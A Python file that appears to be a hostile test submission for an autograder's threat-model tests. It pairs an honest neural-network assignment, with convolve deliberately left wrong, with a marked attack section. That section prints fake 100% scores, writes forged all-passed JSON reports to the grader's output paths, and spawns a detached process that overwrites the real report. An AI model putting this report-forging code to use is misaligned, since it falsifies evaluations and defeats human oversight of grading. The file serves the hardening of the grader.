# ruff: noqa
"""Hostile Part 1 submission: forging the report and the printed result.

At import the file prints fake 'passed' / '37/37 (100%)' lines through print,
sys.__stdout__, and os.write on file descriptors 1 and 2; writes a complete
fake JSON report (every task passed) into its working folder, the parent
folder, the submission's folder and its parent (only inside the tests'
hostile-sandbox folder), /tmp, and every --json / --gradescope path it reads
from its own or its ancestors' command lines; rewrites those at exit (atexit)
and from a detached watcher process that waits for the grader to write its
report and then overwrites it.

Honest code: every Part 1 task but 1.7 (convolve returns zeros of the right shape).
The threat-model tests (tests/test_threat_model.py) expect: 1.7 not passed; every other Part 1 task passed. The report is the grader's own; no forged text anywhere.

The attack sits between the ``# >>> attack`` and ``# <<< attack`` lines; the
tests also grade this file with those lines removed, which must earn exactly
the honest tasks.
"""

import numpy as np
import os
import sys


class Layer:
    """Base class of the layers (skeleton)."""

    def forward(self, x):
        raise NotImplementedError

    def backward(self, gradient):
        raise NotImplementedError

    def update(self, learn_rate):
        raise NotImplementedError


def get_training_data_myneuralnet(N):
    seq_x, seq_noise = np.random.SeedSequence(20240109).spawn(2)
    x = np.random.default_rng(seq_x).uniform(-1.0, 1.0, size=(N, 1))
    noise = np.random.default_rng(seq_noise).normal(0.0, 0.1, size=(N, 1))
    return x, np.sin(4.5 * x) + 0.9 * x + noise


# honest: 1.1a, 1.1b
class MyLinearLayer(Layer):
    def __init__(self, n_in, n_out):
        self.w = np.random.randn(n_in, n_out) * np.sqrt(2 / n_in)
        self.b = np.zeros(n_out)

    def forward(self, x):
        self.x_in = x
        return x @ self.w + self.b

    def backward(self, gradient):
        self.grad_out = gradient
        return gradient @ self.w.T

    # honest: 1.1c
    def update(self, learn_rate):
        self.w = self.w - learn_rate * (self.x_in.T @ self.grad_out)
        self.b = self.b - learn_rate * self.grad_out.sum(axis=0)


# honest: 1.2a
class MyReLU(Layer):
    def forward(self, x):
        self.mask = x > 0
        return x * self.mask

    def update(self, learn_rate):
        pass

    # honest: 1.2b
    def backward(self, gradient):
        return gradient * self.mask


# honest: 1.3a, 1.3b, 1.3c
class MyNeuralNet:
    def __init__(self, n_hidden):
        self.layers = [MyLinearLayer(1, n_hidden), MyReLU(), MyLinearLayer(n_hidden, 1)]

    def forward(self, x):
        for layer in self.layers:
            x = layer.forward(x)
        self.h = x
        return x

    def backward(self, y):
        gradient = (self.h - y) / y.shape[0]
        for layer in reversed(self.layers):
            gradient = layer.backward(gradient)
        return gradient

    def update(self, learn_rate):
        for layer in self.layers:
            layer.update(learn_rate)


# honest: 1.4 (and, with the above, 1.5)
def train_myneuralnet(net, epochs, batch_size, learn_rate, N):
    x, y = get_training_data_myneuralnet(N)
    for _ in range(epochs):
        order = np.random.permutation(N)
        x, y = x[order], y[order]
        for start in range(0, N, batch_size):
            net.forward(x[start:start + batch_size])
            net.backward(y[start:start + batch_size])
            net.update(learn_rate)


# honest: 1.6 (and 1.8 with the grader's reference convolve standing in)
def add_padding(images, padding):
    p = padding
    return np.pad(images, ((0, 0), (p, p), (p, p), (0, 0)))


# deliberately wrong (1.7): the right shape, all zeros
def convolve(kernels, images, stride):
    K, _, _, f_out = kernels.shape
    B, H, W, _ = images.shape
    return np.zeros((B, (H - K) // stride + 1, (W - K) // stride + 1, f_out))


# >>> attack
def _grading_processes():
    """(pid, argv, cwd) of this process and its ancestors up to the grader (`fmlgrade check`).

    Never goes past the grader, nor into a process whose command line mentions pytest,
    so that a run under the project's tests never touches the test runner.
    """
    found, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = [part.decode(errors="replace") for part in handle.read().split(b"\0") if part]
        except OSError:
            argv = []
        if any("pytest" in part for part in argv):
            break
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        found.append((pid, argv, cwd))
        if "check" in argv and any("fmlgrade" in part for part in argv):
            break  # the grader itself: its parent is whoever started it
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


def _grader_paths():
    """Paths the grader was given (--json, --gradescope, --out, the submission), made absolute."""
    paths = []
    argvs = [(list(sys.argv), os.getcwd())] + [(argv, cwd) for _, argv, cwd in _grading_processes()]
    for argv, cwd in argvs:
        for index, part in enumerate(argv):
            value = None
            if part in ("--json", "--gradescope", "--out") and index + 1 < len(argv):
                value = argv[index + 1]
            elif part.startswith(("--json=", "--gradescope=", "--out=")):
                value = part.split("=", 1)[1]
            elif part.endswith((".py", ".ipynb")) and "fmlgrade" not in part and "/bin/" not in part:
                value = part
            if value:
                paths.append(os.path.normpath(os.path.join(cwd or os.getcwd(), value)))
    return list(dict.fromkeys(paths))


import atexit
import json
import subprocess

_TOKEN = "FORGED" + "-" + "7f3a"
_FAKE_LINES = (
    f"{_TOKEN} 1.7 convolve passed 3/3\n"
    + "total 37/37 (100%)\n"
)
_TASKS = ["1.1a", "1.1b", "1.1c", "1.2a", "1.2b", "1.3a", "1.3b", "1.3c", "1.4", "1.5", "1.6", "1.7",
          "1.8", "2.1a", "2.1b", "2.2", "2.3", "3.1a", "3.1b", "3.2", "3.3", "3.4", "3.5", "3.6"]
_FORGED = json.dumps({
    "submission": os.path.basename(__file__),
    "score": 37.0, "max_score": 37.0,
    "tasks": [{"id": t, "title": t, "status": "passed", "score": 1.0, "max_score": 1.0,
               "feedback": _TOKEN} for t in _TASKS],
    "grader_version": "0.1.0", "profile": "quick", "problems": [], "left_out": [],
    "forged": _TOKEN,
}, indent=2)


def _in_sandbox(path):
    return any(part.startswith("hostile-sandbox") for part in os.path.realpath(path).split(os.sep))


def _targets():
    """The grader's --json / --gradescope paths, report.json and results.json in the folders
    around (only inside the tests' hostile-sandbox folder, so that running this file by hand
    litters nothing), and one file in /tmp."""
    here = os.path.dirname(os.path.abspath(__file__))
    places = [os.getcwd(), os.path.dirname(os.getcwd()), here, os.path.dirname(here)]
    places += [cwd for _, _, cwd in _grading_processes() if cwd]
    targets = [os.path.join(place, name) for place in dict.fromkeys(places) if _in_sandbox(place)
               for name in ("report.json", "results.json")]
    targets.append("/tmp/fmlgrade-hostile-forged-report.json")
    targets += [path for path in _grader_paths() if not path.endswith((".py", ".ipynb"))]
    return list(dict.fromkeys(targets))


def _forge():
    for path in _targets():
        if path.endswith(".py") or os.path.isdir(path):
            continue
        try:
            with open(path, "w") as handle:
                handle.write(_FORGED)
        except OSError:
            pass


def _say():
    print(_FAKE_LINES, end="")
    for write in (lambda: sys.__stdout__.write(_FAKE_LINES), lambda: sys.__stdout__.flush(),
                  lambda: os.write(1, _FAKE_LINES.encode()), lambda: os.write(2, _FAKE_LINES.encode())):
        try:
            write()
        except BaseException:
            pass


_WATCHER = """
import os, sys, time
targets, text = sys.argv[2].split("\\n"), sys.argv[3]
seen = {}
for t in targets:
    try:
        seen[t] = os.stat(t).st_mtime_ns
    except OSError:
        seen[t] = None
deadline = time.time() + 30
while targets and time.time() < deadline:
    time.sleep(0.05)
    for t in list(targets):
        try:
            changed = os.stat(t).st_mtime_ns != seen[t]
        except OSError:
            continue
        if changed:
            time.sleep(0.2)
            try:
                with open(t, "w") as handle:
                    handle.write(text)
            except OSError:
                pass
            targets.remove(t)
"""


def _watch():
    """A detached process that overwrites the grader's report once the grader has written it."""
    targets = [path for path in _grader_paths() if not path.endswith((".py", ".ipynb"))]
    if not targets:
        return
    marker = "600." + "091719"
    try:
        subprocess.Popen(
            [sys.executable, "-c", _WATCHER.replace("\n        ", "\n"), marker, "\n".join(targets), _FORGED],
            start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL, close_fds=True,
        )
    except BaseException:
        pass


for _step in (_say, _forge, _watch, lambda: atexit.register(_forge), lambda: atexit.register(_say)):
    try:
        _step()
    except BaseException:
        pass
# <<< attack
